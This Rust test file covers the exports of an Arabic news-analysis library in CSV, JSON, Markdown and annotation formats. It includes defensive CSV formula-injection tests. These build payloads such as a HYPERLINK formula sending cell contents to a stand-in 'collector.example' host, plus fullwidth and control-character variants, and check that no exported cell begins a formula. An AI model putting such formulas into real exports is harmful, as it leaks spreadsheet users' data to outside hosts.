//! Exports as the programs that open them read them: a reader of CSV, a reader of Markdown, readers of JSON.

use isnad::analysis::{MarkKind, Range, SourceType, is_dismissed};
use isnad::corrections::{Correction, Ignored, Reason};
use isnad::export::{self, Content, Details, Format, LessonEntry, Outcome};
use isnad::report::{self, Tally};
use isnad::{Annotated, Locale, OffsetUnit};
use serde_json::Value;

const TEXT: &str = "=SUM(A1)\n😀 أعلن وزير الري طارق النجار أن الحكومة خصصت نحو 30 مليون دينار لترميم السدود، \"بلا تأخير\".\n\
    وبحسب مصادر مطلعة، قد يتأخر العمل عامين | أو أكثر. <b>وأكد النجار</b> أن السد آمن.\n";

fn article() -> Annotated<'static> {
    Annotated::read(TEXT, OffsetUnit::Utf16)
}

fn details() -> Details {
    Details {
        title: Some("سدود، \"آمنة\"؟".to_owned()),
        address: Some("https://example.org/أخبار?a=1&b=2".to_owned()),
        date: Some("2026-03-04T05:06:07Z".to_owned()),
        lesson: None,
    }
}

fn text(article: &Annotated, details: &Details, format: Format, locale: Locale) -> String {
    match export::export(article, details, format, locale) {
        Content::Text(text) => text,
        Content::Data(data) => serde_json::to_string(&data).expect("JSON"),
    }
}

fn json(article: &Annotated, details: &Details, format: Format) -> Value {
    serde_json::from_str(&text(article, details, format, Locale::ENGLISH)).expect("JSON")
}

/// The rows of a CSV export as a map from English headings.
fn rows(csv: &str) -> Vec<std::collections::HashMap<String, String>> {
    let mut reader = csv::Reader::from_reader(csv.strip_prefix('\u{feff}').expect("a byte order mark, for Excel").as_bytes());
    reader.deserialize().map(|row| row.expect("a row as long as the headings")).collect()
}

fn correction(article: &Annotated, mark: &str, range: Range, what: &str, to: Option<&str>) -> Correction {
    let words = article.words(article.inward(range).expect("in the text")).to_owned();
    Correction {
        mark: mark.to_owned(),
        start: range.start,
        end: range.end,
        words: Some(words),
        what: what.to_owned(),
        to: to.map(str::to_owned),
    }
}

#[test]
fn csv_has_a_row_for_each_mark_and_the_text_is_as_it_was() {
    let article = article();
    let csv = text(&article, &details(), Format::Csv, Locale::ENGLISH);
    assert!(csv.split("\r\n").count() > 1 && !csv.replace("\r\n", "").contains(['\r', '\n']), "lines end as RFC 4180 has it");
    let rows = rows(&csv);
    let analysis = article.analysis();
    let mentions: usize = analysis.officials.iter().map(|official| official.mentions.len()).sum();
    assert_eq!(rows.len(), analysis.claims.len() + analysis.figures.len() + mentions);
    let points: Vec<char> = TEXT.chars().collect();
    for row in &rows {
        let at = |column: &str| row[column].parse::<usize>().expect("a place");
        let words: String = points[at("Start (characters)")..at("End (characters)")].iter().collect();
        assert_eq!(row["Words"].trim_start_matches('\''), words);
        assert_eq!(row["Address"], "https://example.org/أخبار?a=1&b=2");
        assert_eq!(row["Title"], "سدود، \"آمنة\"؟");
    }
    let sum = rows.iter().find(|row| row["Mark"] == "Sum of money").expect("a sum");
    assert_eq!((sum["Lowest value"].as_str(), sum["Approximating words"].as_str()), ("30000000", "نحو"));
    let official = rows.iter().find(|row| row["Mark"] == "Official").expect("an official");
    assert_eq!((official["Name"].as_str(), official["Office"].as_str()), ("طارق النجار", "وزير الري"));
}

#[test]
fn no_cell_is_a_formula() {
    let words = "=SUM(A1)";
    let article = article();
    let mut details = details();
    details.title = Some("@cmd".to_owned());
    details.lesson = Some(vec![LessonEntry {
        mark: MarkKind::Claim,
        start: 0,
        end: words.len() as u32,
        index: None,
        outcome: Outcome::Extra,
        source_type: Some(SourceType::Vague),
    }]);
    let rows = rows(&text(&article, &details, Format::Csv, Locale::ENGLISH));
    for cell in rows.iter().flat_map(|row| row.values()) {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell}");
    }
    let extra = rows.last().expect("the extra");
    assert_eq!((extra["Words"].as_str(), extra["Result of the lesson"].as_str()), ("'=SUM(A1)", "extra (Vague, general)"));
}

/// Every column that holds words of the article or of its page, with each opening that a spreadsheet takes for a formula.
#[test]
fn no_opening_of_a_formula_survives_in_any_column() {
    for opening in ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠"] {
        let formula = format!("{opening}HYPERLINK(\"https://collector.example/?q=\"&A1)");
        let details = Details { title: Some(formula.clone()), address: Some(formula.clone()), date: Some(formula.clone()), lesson: None };
        for line in [
            format!("{formula} قال وزير المالية سامر الحلبي إن المنحة بلغت 3 ملايين دينار."),
            format!("قال {formula} إن المنحة بلغت 3 ملايين دينار، وفق ما نقلت {formula}."),
        ] {
            let article = Annotated::read(&line, OffsetUnit::Utf16);
            assert!(!article.analysis().claims.is_empty(), "{line}");
            for locale in [Locale::ARABIC, Locale::ENGLISH] {
                for row in rows(&text(&article, &details, Format::Csv, locale)) {
                    for (column, cell) in row {
                        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']), "{column}: {cell}");
                    }
                }
            }
        }
    }
}

#[test]
fn json_has_the_article_and_an_analysis_that_fits_it() {
    let article = article();
    let exported = json(&article, &details(), Format::Json);
    assert_eq!(exported["text"], TEXT);
    assert_eq!(exported["offsets"], "utf16");
    assert_eq!(exported["address"], details().address.expect("an address"));
    assert_eq!(exported["generator"], format!("Isnad {}", env!("CARGO_PKG_VERSION")));
    let analysis = serde_json::from_value(exported["analysis"].clone()).expect("an analysis");
    assert_eq!(Annotated::new(TEXT, analysis, OffsetUnit::Utf16).expect("it fits").analysis(), article.analysis());
}

#[test]
fn annotations_select_the_words_in_two_ways() {
    let article = article();
    let collection = json(&article, &details(), Format::Annotation);
    assert_eq!(collection["@context"], "http://www.w3.org/ns/anno.jsonld");
    let items = collection["first"]["items"].as_array().expect("a list");
    assert_eq!(collection["total"], items.len());
    let points: Vec<char> = TEXT.chars().collect();
    let mut ids = vec![];
    for item in items {
        let target = &item["target"];
        assert_eq!(target["source"], details().address.expect("an address"));
        let [quote, position] = [&target["selector"][0], &target["selector"][1]];
        let at = |key: &str| position[key].as_u64().expect("a place") as usize;
        let told = |key: &str| quote[key].as_str().expect("words");
        assert_eq!(points[at("start")..at("end")].iter().collect::<String>(), told("exact"));
        assert!(TEXT.contains(&[told("prefix"), told("exact"), told("suffix")].concat()));
        assert!(told("prefix").chars().count() <= 32 && told("suffix").chars().count() <= 32);
        ids.push(item["id"].as_str().expect("an id").to_owned());
    }
    let count = ids.len();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), count, "each has an identifier of its own");
    assert_eq!(collection, json(&article, &details(), Format::Annotation), "the same article has the same identifiers");
    let nowhere = json(&article, &Details::default(), Format::Annotation);
    assert!(nowhere["first"]["items"][0]["target"]["source"].as_str().expect("a source").starts_with("urn:uuid:"));
}

#[test]
fn markdown_says_what_the_report_says_and_words_stay_words() {
    let article = article();
    for locale in [Locale::ARABIC, Locale::ENGLISH] {
        let markdown = text(&article, &details(), Format::Markdown, locale);
        let mut html = String::new();
        pulldown_cmark::html::push_html(&mut html, pulldown_cmark::Parser::new_ext(&markdown, pulldown_cmark::Options::ENABLE_TABLES));
        assert!(!html.contains("<b>") && html.contains("&lt;b&gt;"), "{html}");
        assert_eq!(html.matches("<table>").count(), 2, "the ladder and the sums");
        let plain = html.replace("&quot;", "\"");
        assert!(plain.contains("عامين | أو أكثر"), "a bar is no cell: {plain}");
        for claim in &article.analysis().claims {
            let words = article.words(claim.range()).replace('<', "&lt;").replace('>', "&gt;");
            assert!(plain.contains(&words), "{words}");
        }
    }
}

#[test]
fn an_empty_and_a_foreign_text_have_every_export() {
    for words in ["", "No Arabic here.", "😀\n\n"] {
        let article = Annotated::read(words, OffsetUnit::Utf16);
        for format in [Format::Csv, Format::Json, Format::Markdown, Format::Annotation] {
            assert!(!text(&article, &Details::default(), format, Locale::ARABIC).is_empty());
        }
    }
}

#[test]
fn a_correction_changes_the_label_and_remembers_what_it_was() {
    let claim = article().outward_analysis().claims.iter().position(|c| c.attribution.source_type == SourceType::Unnamed).expect("one");
    let range = article().outward_analysis().claims[claim].range();
    let corrections = [
        correction(&article(), "claim", range, "source_type", Some("vague")),
        correction(&article(), "claim", range, "level", Some("routine")),
    ];
    let (corrected, ignored) = article().corrected(&corrections);
    assert_eq!(ignored, []);
    assert_eq!(corrected.analysis().claims[claim].attribution.source_type, SourceType::Vague);
    assert_eq!(Tally::of(&corrected).rung(SourceType::Unnamed), Tally::of(&article()).rung(SourceType::Unnamed) - 1);
    let told = report::fragment(&corrected, Locale::ENGLISH);
    assert!(told.contains("corrected by the reader"));
    assert!(told.contains("Corrected by the reader. Type of source: Vague, general instead of Unnamed source."), "{told}");
    let rows = rows(&text(&corrected, &details(), Format::Csv, Locale::ENGLISH));
    assert!(rows.iter().any(|row| row["Corrections by the reader"].contains("key claim")));
    let json = json(&corrected, &details(), Format::Json);
    assert_eq!(json["analysis"]["claims"][claim]["changes"][0]["from"], "unnamed");
    // Set back, nothing is left of it.
    let back = correction(&article(), "claim", range, "source_type", Some("unnamed"));
    let (again, _) = corrected.corrected(&[back]);
    assert_eq!(again.analysis().claims[claim].changes.len(), 1, "the level alone");
}

#[test]
fn a_dismissed_mark_counts_for_nothing_and_can_be_found_again() {
    let analysis = article().outward_analysis();
    let mention = analysis.officials[0].mentions[0].range();
    let corrections = [
        correction(&article(), "claim", analysis.claims[0].range(), "dismissed", None),
        correction(&article(), "figure", analysis.figures[0].range(), "dismissed", None),
        correction(&article(), "official", mention, "dismissed", None),
    ];
    let (corrected, ignored) = article().corrected(&corrections);
    assert_eq!(ignored, []);
    assert!(is_dismissed(&corrected.analysis().claims[0].changes));
    assert_eq!(Tally::of(&corrected).claims, analysis.claims.len() - 1);
    let told = report::fragment(&corrected, Locale::ENGLISH);
    assert!(told.contains("No sums of money in this text.") && told.contains("No named officials in this text."));
    assert_eq!(told.matches("data-dismissed=\"true\"").count(), 3);
    let rows = rows(&text(&corrected, &details(), Format::Csv, Locale::ENGLISH));
    assert!(rows.iter().filter(|row| row["Corrections by the reader"] == "The reader dismissed this mark.").count() >= 3);
    assert_eq!(isnad::explain::explain(&corrected, Locale::ARABIC).figures.len(), analysis.figures.len());
}

#[test]
fn a_correction_finds_its_words_again_in_a_changed_text() {
    let figure = article().outward_analysis().figures[0].range();
    let dismissal = correction(&article(), "figure", figure, "dismissed", None);
    let longer = format!("تحديث: فقرة جديدة.\n{TEXT}");
    let (corrected, ignored) = Annotated::read(&longer, OffsetUnit::Utf16).corrected(std::slice::from_ref(&dismissal));
    assert_eq!(ignored, []);
    assert!(is_dismissed(&corrected.analysis().figures[0].changes));
    let (_, ignored) = Annotated::read(&longer, OffsetUnit::Utf16).corrected(&[Correction { words: None, ..dismissal }]);
    assert_eq!(ignored, [Ignored { index: 0, reason: Reason::NoSuchMark }], "without words only the place counts");
}

#[test]
fn what_does_not_fit_is_ignored_and_said() {
    let analysis = article().outward_analysis();
    let (claim, figure) = (analysis.claims[1].range(), analysis.figures[0].range());
    let bad = |mark: &str, range, what: &str, to| Correction { words: None, ..correction(&article(), mark, range, what, to) };
    let beyond = Correction { start: 4_000_000_000, end: 3, ..bad("claim", claim, "dismissed", None) };
    let corrections = [
        bad("rumour", claim, "dismissed", None),
        beyond,
        bad("claim", claim, "truth", Some("true")),
        bad("claim", claim, "kind", Some("funding")),
        bad("claim", claim, "source_type", Some("liar")),
        bad("claim", claim, "source_type", None),
        bad("figure", figure, "kind", Some("state")),
        bad("claim", claim, "level", Some("3")),
    ];
    let (corrected, ignored) = article().corrected(&corrections);
    use Reason::{NoSuchLabel, NoSuchMark, NoSuchValue};
    let reasons = [NoSuchMark, NoSuchMark, NoSuchLabel, NoSuchLabel, NoSuchValue, NoSuchValue, NoSuchValue, NoSuchValue];
    assert_eq!(ignored, reasons.into_iter().enumerate().map(|(index, reason)| Ignored { index, reason }).collect::<Vec<_>>());
    assert_eq!(corrected.analysis(), article().analysis());
}
